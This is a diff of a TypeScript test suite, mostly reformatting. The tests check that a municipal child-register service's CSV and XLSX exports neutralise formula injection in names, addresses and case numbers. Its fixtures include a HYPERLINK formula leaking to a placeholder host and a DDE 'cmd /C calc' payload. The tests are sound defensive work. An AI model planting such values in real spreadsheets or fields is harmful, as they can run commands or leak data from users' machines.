@@ -19,7 +19,7 @@ import { startTestHub, TestHub } from '../support/test-hub';
  */
 const HYPERLINK = '=HYPERLINK("http://example.invalid/?leak=1";"Открыть")';
 const PHONE = '+7 (999) 000-00-00, г. Владивосток';
-const AT_SCHOOL = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const AT_SCHOOL = "@SUM(1+1)*cmd|' /C calc'!A0";
 const CLASS_WITH_CONTROLS = '7Б\r=1+1\t@2';
 
 const LIST = `query($m: String!, $y: Int!, $q: Int!) { quarterlyRegisterList(municipality: $m, year: $y, quarter: $q) { rows csv xlsxBase64 } }`;
@@ -64,7 +64,8 @@ function expectInertXlsx(sheets: ReadSheet[]): void {
 describe('names and texts beginning with =, +, -, @, tab or CR in every export', () => {
   let t: TestHub;
   const ids = { mother: '', child: '', removedChild: '', outsider: '' };
-  const as = async <T>(user: string, query: string, variables: Record<string, unknown>, headers: Record<string, string> = {}) => t.gql<T>(await t.userToken(user), query, variables, undefined, headers);
+  const as = async <T>(user: string, query: string, variables: Record<string, unknown>, headers: Record<string, string> = {}) =>
+    t.gql<T>(await t.userToken(user), query, variables, undefined, headers);
   const ok = <T>(r: { errors?: unknown; data: T | null }): T => {
     expect(r.errors).toBeUndefined();
     return r.data!;
@@ -101,7 +102,14 @@ describe('names and texts beginning with =, +, -, @, tab or CR in every export',
     ids.removedChild = await person({ lastName: '-Плюсов', firstName: 'Пётр', middleName: 'Ильич', birthDate: '2011-09-30', sex: 'MALE' });
     ok(
       await as('secretary.vlk', REGISTER_FAMILY, {
-        input: { idempotencyKey: `injection-b-${randomUUID()}`, municipality: MUNICIPALITY, categories: [], registeredAddress: PHONE, actualAddress: PHONE, members: [{ personId: ids.removedChild, role: 'CHILD' }] },
+        input: {
+          idempotencyKey: `injection-b-${randomUUID()}`,
+          municipality: MUNICIPALITY,
+          categories: [],
+          registeredAddress: PHONE,
+          actualAddress: PHONE,
+          members: [{ personId: ids.removedChild, role: 'CHILD' }],
+        },
       }),
     );
     const caseB = await recogniseSop(ids.removedChild, '-2/2', 'POLICE', []);
@@ -118,8 +126,11 @@ describe('names and texts beginning with =, +, -, @, tab or CR in every export',
     await as('chair.vlk', CASE_VIEW, { id: ids.child }, { 'x-hub-purpose': 'INDIVIDUAL_PREVENTION', 'x-hub-case': '-4-4' });
 
     await waitFor(
-      'the agencies\' records to reach the bank',
-      () => t.hub.subgraphs.bank.dataSource.query(`SELECT source, aggregate_type, child_id FROM agency_record WHERE child_id = ANY($1::uuid[])`, [[ids.child, ids.removedChild, ids.outsider]]) as Promise<Array<{ source: string; aggregate_type: string; child_id: string }>>,
+      "the agencies' records to reach the bank",
+      () =>
+        t.hub.subgraphs.bank.dataSource.query(`SELECT source, aggregate_type, child_id FROM agency_record WHERE child_id = ANY($1::uuid[])`, [[ids.child, ids.removedChild, ids.outsider]]) as Promise<
+          Array<{ source: string; aggregate_type: string; child_id: string }>
+        >,
       (rows) =>
         rows.some((r) => r.child_id === ids.child && r.aggregate_type === 'Attachment') &&
         [ids.removedChild, ids.outsider].every((id) => rows.some((r) => r.child_id === id && r.source === 'police' && r.aggregate_type === 'Registration')),
@@ -129,7 +140,9 @@ describe('names and texts beginning with =, +, -, @, tab or CR in every export',
   afterAll(() => t.stop());
 
   it('when the quarterly list is exported, then the hostile names, address and school are text behind an apostrophe in CSV and XLSX, and its dates are dates', async () => {
-    const list = ok(await as<{ quarterlyRegisterList: { rows: Array<Array<string | null>>; csv: string; xlsxBase64: string } }>('operator.vlk', LIST, { m: MUNICIPALITY, y: year, q: quarter }, OPERATOR)).quarterlyRegisterList;
+    const list = ok(
+      await as<{ quarterlyRegisterList: { rows: Array<Array<string | null>>; csv: string; xlsxBase64: string } }>('operator.vlk', LIST, { m: MUNICIPALITY, y: year, q: quarter }, OPERATOR),
+    ).quarterlyRegisterList;
     const records = expectInertCsv(list.csv);
     const child = records.find((r) => r[2].includes('Минусова Дарья'))!;
     expect(child[2]).toBe("'-Минусова Дарья Игоревна, 12.04.2013");
@@ -149,7 +162,9 @@ describe('names and texts beginning with =, +, -, @, tab or CR in every export',
   });
 
   it('when the reconciliation is exported, then names beginning with "-" are neutralised in CSV and XLSX', async () => {
-    const result = ok(await as<{ registerReconciliation: { rows: Array<{ childFullName: string }>; csv: string; xlsxBase64: string } }>('operator.vlk', RECONCILE, { m: MUNICIPALITY, y: year, q: quarter }, OPERATOR)).registerReconciliation;
+    const result = ok(
+      await as<{ registerReconciliation: { rows: Array<{ childFullName: string }>; csv: string; xlsxBase64: string } }>('operator.vlk', RECONCILE, { m: MUNICIPALITY, y: year, q: quarter }, OPERATOR),
+    ).registerReconciliation;
     expect(result.rows.map((r) => r.childFullName)).toEqual(expect.arrayContaining(['-Минусова Дарья Игоревна', '-Плюсов Пётр Ильич', '-Вневедомов Кирилл Олегович']));
     const records = expectInertCsv(result.csv);
     expect(records.map((r) => r[4])).toEqual(expect.arrayContaining(["'-Минусова Дарья Игоревна", "'-Плюсов Пётр Ильич", "'-Вневедомов Кирилл Олегович"]));
@@ -178,7 +193,9 @@ describe('names and texts beginning with =, +, -, @, tab or CR in every export',
   });
 
   it('when the subject access report is exported for the parent, then the case number beginning with "-" is neutralised and the codes are Russian', async () => {
-    const report = ok(await as<{ subjectAccessReport: { entries: Array<{ caseNumber: string | null }>; csv: string } }>('auditor.vlk', SUBJECT, { id: ids.child, m: MUNICIPALITY }, AUDIT)).subjectAccessReport;
+    const report = ok(
+      await as<{ subjectAccessReport: { entries: Array<{ caseNumber: string | null }>; csv: string } }>('auditor.vlk', SUBJECT, { id: ids.child, m: MUNICIPALITY }, AUDIT),
+    ).subjectAccessReport;
     expect(report.entries.map((e) => e.caseNumber)).toContain('-4-4');
     const records = expectInertCsv(report.csv);
     expect(records.map((r) => r[8])).toContain("'-4-4");
